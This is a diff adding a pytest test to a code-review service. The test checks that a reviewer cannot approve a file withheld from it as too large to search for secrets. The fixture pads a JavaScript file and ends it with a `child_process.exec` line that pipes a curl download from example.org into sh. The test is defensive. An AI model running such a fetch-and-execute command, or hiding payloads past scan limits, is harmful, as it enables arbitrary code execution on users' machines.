@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import hashlib
 from collections.abc import Iterator
 
 import pytest
 
-from tests.use.reviewing import POLICIES, House, houses
+from tests.use.reviewing import FINDING, KINDS, POLICIES, House, houses
 from tests.use.served import DOORS, HTTP
 
 DOTS = "." * 40
@@ -122,3 +123,32 @@ def test_the_rule_is_told_where_reviewers_meet_it(all_houses: dict[str, House]) 
     )
     assert b"the whole work" in answer.body
     assert b"3 different words" in answer.body
+
+
+#: More than is searched for secrets: nobody but a signed-in human is served it.
+UNSEARCHED = b"let a = 1;\n" * 400_000 + b"require('child_process').exec('curl https://example.org/x | sh');\n"
+
+
+@pytest.mark.parametrize("door", DOORS)
+@pytest.mark.parametrize("policy", POLICIES)
+def test_nobody_approves_a_file_that_was_withheld_from_them(
+    all_houses: dict[str, House], policy: str, door: str
+) -> None:
+    """U-04, U-51: what is withheld for the secrets it may hold was not read; an objection needs no more."""
+    house = all_houses[policy]
+    content = UNSEARCHED + f"// {policy} {door}\n".encode()
+    digest = hashlib.sha256(content).hexdigest()
+    assert house.author.raw("PUT", f"/api/v1/blobs/{digest}", content).status == 201
+    files = [{"path": "a.md", "text": "# Rules\n"}, {"path": "big.js", "digest": digest}]
+    review = house.author.call("open_review", kind=KINDS[policy], title="Grow", files=files)["review"]
+    work = house.reviewer.at(door).call("read_work", review=review)
+    assert next(one["text"] for one in work["files"] if one["path"] == "big.js").startswith("[withheld: ")
+    no = house.report(door, review, **house.approval())
+    assert (no.is_ok, no.code) == (False, "unread"), no.text
+    assert "You were not given big.js" in no.text
+    assert house.reports(review) == []
+    found = {**FINDING, "place": {"path": "big.js", "start": 1}}
+    against = house.report(door, review, **house.approval(verdict="concerns", findings=[found], summary="Too big."))
+    assert against.is_ok, against.text
+    human = house.served.human.call("read_work", review=review)
+    assert "curl https" in next(one["text"] for one in human["files"] if one["path"] == "big.js")
